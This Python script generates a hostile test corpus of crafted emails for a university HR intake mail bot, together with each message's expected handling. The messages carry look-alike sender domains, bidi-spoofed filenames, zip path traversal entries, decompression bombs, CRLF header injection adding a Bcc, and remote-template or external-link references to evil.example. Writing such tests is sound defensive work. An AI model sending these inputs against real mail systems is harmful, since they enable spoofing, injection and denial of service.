#!/usr/bin/env python3
"""Builds the hostile corpus of issue 13: crafted messages (emails/*.eml) and expected.json
with each one's outcome, folder and reply. Run from this folder: python3 make_corpus.py.
Deterministic: the same bytes every run (fixed dates, boundaries and zip timestamps)."""
import base64, io, json, os, zipfile

HEAD = ("Сейтқали Әлібек Қайратұлы", "a.seitkali@kazguu.kz")
BOT = "hr-intake@kazguu.kz"
DATE = "Sun, 06 Dec 2026 10:00:00 +0500"
CSV = ("№;Мектеп;Т.А.Ә.;Даярлау бағыты;Білім беру бағдарламасы;Соңғы курс;Курс күні;Сағат саны;Телефон;Электрондық пошта\r\n"
       "1;Құқық жоғары мектебі;Бейсенов Асқар Нұрланұлы;6B04201 Құқықтану;6B04201 Құқықтану;Кәсіби даму;15.03.2024;72;87011234567;a.beisenov@kazguu.kz\r\n"
       "2;Құқық жоғары мектебі;Сейтқали Ұлан Мұхтарұлы;6B04201 Құқықтану;6B04201 Құқықтану;Кәсіби даму;16.03.2024;36;87011234568;u.seitkali@kazguu.kz\r\n").encode()
ROWS = [["№", "Т.А.Ә.", "Электрондық пошта", "Даярлау бағыты", "Соңғы курс", "Курс күні", "Сағат саны"],
        ["1", "Бейсенов Асқар Нұрланұлы", "a.beisenov@kazguu.kz", "6B04201 Құқықтану", "Кәсіби даму", "15.03.2024", "72"]]
cases = []

def enc(text):
    return "=?UTF-8?B?" + base64.b64encode(text.encode()).decode() + "?="

def b64(data):
    s = base64.b64encode(data).decode()
    return "\r\n".join(s[i:i + 76] for i in range(0, len(s), 76))

def fixed_zip(members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=(2026, 12, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(info, data)
    return out.getvalue()

def xlsx(extra=(), sheet=None, styles="<styleSheet/>"):
    cells = lambda r, row: "".join(f'<c r="{chr(65 + i)}{r}" t="inlineStr"><is><t>{v}</t></is></c>' for i, v in enumerate(row))
    sheet = sheet or ("<worksheet><sheetData>" + "".join(f'<row r="{r + 1}">{cells(r + 1, row)}</row>' for r, row in enumerate(ROWS)) + "</sheetData></worksheet>")
    return fixed_zip([
        ("[Content_Types].xml", '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'),
        ("_rels/.rels", '<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'),
        ("xl/workbook.xml", '<workbook xmlns:r="r"><sheets><sheet name="Өтінім" sheetId="1" r:id="rId1"/></sheets></workbook>'),
        ("xl/_rels/workbook.xml.rels", '<Relationships><Relationship Id="rId1" Type="http://x/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId3" Type="http://x/styles" Target="styles.xml"/></Relationships>'),
        ("xl/worksheets/sheet1.xml", sheet), ("xl/styles.xml", styles)] + list(extra))

def docx(extra=(), body=None):
    row = lambda cells: "<w:tr>" + "".join(f"<w:tc><w:p><w:r><w:t>{c}</w:t></w:r></w:p></w:tc>" for c in cells) + "</w:tr>"
    body = body or ("<w:tbl>" + "".join(row(r) for r in ROWS) + "</w:tbl>")
    return fixed_zip([("[Content_Types].xml", "<Types/>"),
                      ("word/document.xml", f'<w:document xmlns:w="w"><w:body>{body}</w:body></w:document>')] + list(extra))

def message(name, *, frm=None, headers=(), subject="Өтінім", parts=None, body_text="Өтінім тіркелді.", raw_header=None):
    frm = frm if frm is not None else f"{enc(HEAD[0])} <{HEAD[1]}>"
    lines = []
    if frm != "":
        lines.append(f"From: {frm}")
    lines += [f"To: {BOT}", f"Subject: {subject}", f"Date: {DATE}", f"Message-ID: <{name}@hostile.test>", "MIME-Version: 1.0"]
    lines += list(headers)
    if raw_header is not None:
        lines = raw_header
    if parts is None:
        parts = [("Өтінім.csv", "text/csv", CSV)]
    out = "\r\n".join(lines) + "\r\n"
    boundary = "hostile-" + name
    out += f'Content-Type: multipart/mixed; boundary="{boundary}"\r\n\r\n'
    out += f"--{boundary}\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n{b64(body_text.encode())}\r\n"
    for filename, ctype, data in parts:
        if isinstance(filename, tuple):  # a raw Content-Disposition
            disposition = filename[0]
        else:
            disposition = f'attachment; filename="{filename}"' if filename.isascii() and filename.isprintable() else f"attachment; filename*=UTF-8''{''.join('%%%02X' % b for b in filename.encode())}"
        out += f"--{boundary}\r\nContent-Type: {ctype}\r\nContent-Disposition: {disposition}\r\nContent-Transfer-Encoding: base64\r\n\r\n{b64(data)}\r\n"
    out += f"--{boundary}--\r\n"
    return out.encode()

def add(name, data, outcome, reply, kind=None, note=""):
    folder = {"processed": "Processed", "rejected": "Rejected", "ignored": "Ignored", "reported": "Reported"}[outcome]
    path = f"emails/{name}.eml"
    with open(path, "wb") as f:
        f.write(data)
    cases.append({"file": path, "outcome": outcome, "folder": folder, "reply": reply, "kind": kind, "note": note})

os.makedirs("emails", exist_ok=True)
for old in os.listdir("emails"):
    os.remove(os.path.join("emails", old))

# Received time, not claimed time.
add("01_backdated_date", message("01", headers=[]).replace(DATE.encode(), b"Fri, 29 May 2026 10:00:00 +0500"),
    "processed", "receipt", note="Date: 29 May; received 6 Dec: cycle 2027-2028, date_skew journalled")
add("02_future_date", message("02").replace(DATE.encode(), b"Mon, 01 Jan 2035 10:00:00 +0500"), "processed", "receipt",
    note="Date: 2035; the server's time counts")
add("03_no_date", message("03").replace(f"Date: {DATE}\r\n".encode(), b""), "processed", "receipt")
# One author.
add("04_two_authors", message("04", frm=f"<{HEAD[1]}>, <boss@evil.example>", headers=["Authentication-Results: mx.kazguu.kz; dmarc=pass header.from=evil.example"]),
    "reported", None, "severalAuthors")
add("05_two_hundred_authors", message("05", frm=f"<{HEAD[1]}>, " + ", ".join(f"<p{i}@evil.example>" for i in range(200))), "reported", None, "severalAuthors")
add("06_two_from_fields", message("06", headers=["From: <boss@evil.example>"]), "reported", None, "severalFromFields")
add("07_sender_two_mailboxes", message("07", headers=["Sender: <x@kazguu.kz>, <y@kazguu.kz>"]), "reported", None, "invalidSender")
add("08_sender_group", message("08", headers=["Sender: undisclosed:;"]), "reported", None, "invalidSender")
add("09_header_from_differs", message("09", headers=["Authentication-Results: mx.kazguu.kz; spf=pass; dkim=pass; dmarc=pass header.from=evil.example"]),
    "reported", None, "authenticatedDomainDiffers")
add("10_missing_from", message("10", frm=""), "reported", None, "noSender")
add("11_sender_for_one_author", message("11", headers=["Sender: <secretary@kazguu.kz>"]), "processed", "receipt",
    note="RFC 5322 allows an agent's Sender: for one author")
# Look-alikes.
add("12_lookalike_subdomain", message("12", frm="<a.seitkali@kazguu.kz.evil.example>"), "rejected", "reject_unknown_sender")
add("13_lookalike_space", message("13", frm="a.seitkali@kazgu u.kz"), "reported", None, "noSender")
add("14_lookalike_kelvin_sign", message("14", frm="<a.seitkali@\u212aazguu.kz>"), "reported", None, "noSender")
add("15_lookalike_cyrillic_a", message("15", frm="<a.seitkali@k\u0430zguu.kz>"), "reported", None, "noSender")
add("16_lookalike_punycode", message("16", frm="<a.seitkali@xn--kzguu-6ve.kz>"), "rejected", "reject_unknown_sender")
add("17_lookalike_zero_width", message("17", frm="<a.seitkali@kazguu\u200b.kz>"), "reported", None, "noSender")
# Names.
for n, (label, name) in enumerate([("rlo", "otinim_\u202exslx.exe"), ("lri", "otinim_\u2066x\u2069.xlsx"), ("zero_width", "Өтінім\u200b.xlsx"),
                                   ("c1_control", "Өтінім\u0085.xlsx"), ("nul", "otinim\u0000.xlsx"), ("path", "..\\..\\otinim.xlsx")]):
    add(f"{18 + n:02d}_name_{label}", message(f"{18 + n}", parts=[(name, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", xlsx())]),
        "rejected", "reject_file", "hostile_name")
add("24_name_crlf_encoded_word", message("24", parts=[(('attachment; filename="' + enc("Өтінім\r\nBcc: victim@example.com.xlsx") + '"',), "application/octet-stream", xlsx())]),
    "rejected", "reject_file", "hostile_name")
# Archives.
add("25_zip_member_traversal", message("25", parts=[("Өтінім.xlsx", "application/octet-stream", xlsx(extra=[("../../evil.txt", "x")]))]), "rejected", "reject_file", "unsafe_archive")
add("26_zip_member_backslash", message("26", parts=[("Өтінім.xlsx", "application/octet-stream", xlsx(extra=[("xl\\media\\evil.png", "x")]))]), "rejected", "reject_file", "unsafe_archive")
add("27_zip_member_absolute", message("27", parts=[("Өтінім.xlsx", "application/octet-stream", xlsx(extra=[("/etc/cron.d/evil", "x")]))]), "rejected", "reject_file", "unsafe_archive")
add("28_zip_member_drive_letter", message("28", parts=[("Өтінім.xlsx", "application/octet-stream", xlsx(extra=[("C:/evil.dll", "x")]))]), "rejected", "reject_file", "unsafe_archive")
add("29_zip_member_duplicate", message("29", parts=[("Өтінім.xlsx", "application/octet-stream", xlsx(extra=[("xl/worksheets/sheet1.xml", "<worksheet/>")]))]), "rejected", "reject_file", "unsafe_archive")
add("30_zip_attachment", message("30", parts=[("Өтінім.zip", "application/zip", fixed_zip([("Өтінім.csv", CSV)]))]), "rejected", "reject_file", "archive_attachment")
# Bombs (small, highly compressible).
big = "A" * (8 << 20)
add("31_bomb_text_node", message("31", parts=[("Өтінім.xlsx", "application/octet-stream", xlsx(sheet=f"<worksheet><sheetData><row><c t=\"inlineStr\"><is><t>{big}</t></is></c></row></sheetData></worksheet>"))]), "rejected", "reject_file", "unsafe_archive")
add("32_bomb_attribute", message("32", parts=[("Өтінім.xlsx", "application/octet-stream", xlsx(styles=f'<styleSheet><numFmts><numFmt numFmtId="200" formatCode="{big}"/></numFmts></styleSheet>'))]), "rejected", "reject_file", "unsafe_archive")
add("33_bomb_styles_count", message("33", parts=[("Өтінім.xlsx", "application/octet-stream", xlsx(styles="<styleSheet><cellXfs>" + "<xf/>" * 70000 + "</cellXfs></styleSheet>"))]), "rejected", "reject_file", "unsafe_archive")
add("34_bomb_docx", message("34", parts=[("Өтінім.docx", "application/octet-stream", docx(body=f"<w:p><w:r><w:t>{big}</w:t></w:r></w:p>"))]), "rejected", "reject_file", "unsafe_archive")
add("35_bomb_ods", message("35", parts=[("Өтінім.ods", "application/octet-stream", fixed_zip([("mimetype", "application/vnd.oasis.opendocument.spreadsheet"), ("META-INF/manifest.xml", "<m/>"), ("content.xml", f"<office:document-content><table:table><table:table-row><table:table-cell><text:p>{big}</text:p></table:table-cell></table:table-row></table:table></office:document-content>")]))]), "rejected", "reject_file", "unsafe_archive")
# Structure and size: the sender is told why.
add("36_header_line_too_long", message("36", headers=["X-Long: " + "x" * 70000]), "rejected", "reject_message", "header_line_too_long")
many = message("37", parts=[(f"note{i}.txt", "text/plain", b"x") for i in range(1001)])
add("37_too_many_parts", many, "rejected", "reject_message", "too_many_parts")
nested = b"x\r\n"
for depth in range(40):
    nested = f'Content-Type: multipart/mixed; boundary="n{depth}"\r\n\r\n--n{depth}\r\n'.encode() + nested + f"\r\n--n{depth}--\r\n".encode()
add("38_too_deep", f"From: {enc(HEAD[0])} <{HEAD[1]}>\r\nTo: {BOT}\r\nSubject: deep\r\nDate: {DATE}\r\nMessage-ID: <38@hostile.test>\r\nMIME-Version: 1.0\r\n".encode() + nested,
    "rejected", "reject_message", "too_deep")
add("39_not_a_message", b"\x00\x01\x02 this is not mail at all \xff\xfe", "rejected", None, "damaged")
# Header injection and encoded-word abuse: nothing reaches an outgoing header.
add("40_crlf_display_name", message("40", frm=f"{enc('Evil' + chr(13) + chr(10) + 'Bcc: victim@example.com')} <{HEAD[1]}>"), "processed", "receipt")
add("41_crlf_subject", message("41", subject=enc("Өтінім\r\nBcc: victim@example.com\r\n\u202egnp.exe")), "processed", "receipt")
add("42_encoded_word_bomb", message("42", subject="\r\n ".join([enc("ә" * 10)] * 3000)), "processed", "receipt")
add("43_ten_thousand_recipients", message("43").replace(f"To: {BOT}".encode(), ("To: " + ",\r\n ".join(f"staff{i}@kazguu.kz" for i in range(10000)) + f",\r\n {BOT}").encode()),
    "processed", "receipt")
add("44_rfc2231_broken_continuation", message("44", parts=[(("attachment; filename*0*=UTF-8''%D3%A8%D1%82; filename*2=\"in.csv\"; filename*1*=%ZZ",), "text/csv", CSV)]), "processed", "receipt")
# Active content that is never followed.
add("45_xlsx_external_link_ole", message("45", parts=[("Өтінім.xlsx", "application/octet-stream", xlsx(extra=[
    ("xl/externalLinks/externalLink1.xml", '<externalLink><externalBook r:id="rId1"/></externalLink>'),
    ("xl/externalLinks/_rels/externalLink1.xml.rels", '<Relationships><Relationship Id="rId1" Type="http://x/externalLinkPath" Target="http://evil.example/steal.xlsx" TargetMode="External"/></Relationships>'),
    ("xl/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512)]))]), "processed", "receipt")
add("46_docx_remote_template", message("46", parts=[("Өтінім.docx", "application/octet-stream", docx(extra=[
    ("word/_rels/settings.xml.rels", '<Relationships><Relationship Id="rId1" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>')]))]),
    "processed", "receipt")
add("47_pdf_as_application", message("47", parts=[("Өтінім.pdf", "application/pdf", b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n")]), "rejected", "reject_file", "unsupported_format")
add("48_image_as_application", message("48", parts=[("Өтінім.png", "image/png", b"\x89PNG\r\n\x1a\n" + b"\0" * 64)]), "rejected", "reject_file", "unsupported_format")
html = ("<html><body><img src=\"http://tracker.example/p.gif\" width=1 height=1><form action=\"http://evil.example/\"><input name=p></form><table>"
        + "".join("<tr>" + "".join(f"<td>{c}</td>" for c in row) + "</tr>" for row in ROWS) + "</table></body></html>")
def html_message(name):
    return (f"From: {enc(HEAD[0])} <{HEAD[1]}>\r\nTo: {BOT}\r\nSubject: {enc('Өтінім')}\r\nDate: {DATE}\r\nMessage-ID: <{name}@hostile.test>\r\nMIME-Version: 1.0\r\n"
            f"Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n{b64(html.encode())}\r\n").encode()
add("49_html_tracking_pixel_form", html_message("49"), "processed", "receipt")
# Machine mail is never answered, whatever it carries.
add("50_auto_submitted_bomb", message("50", headers=["Auto-Submitted: auto-replied"], parts=[("Өтінім.xlsx", "application/octet-stream", xlsx(sheet=f"<worksheet><sheetData><row><c t=\"inlineStr\"><is><t>{big}</t></is></c></row></sheetData></worksheet>"))]),
    "ignored", None)
add("51_bidi_subject", message("51", subject=enc("Өтінім \u202eFDP.exe \u2066x\u2069")), "processed", "receipt")

with open("expected.json", "w", encoding="utf-8") as f:
    json.dump({"roster": "../samples/roster.csv", "received": "2026-12-06T05:00:00Z", "messages": cases}, f, ensure_ascii=False, indent=1)
print(len(cases), "messages")
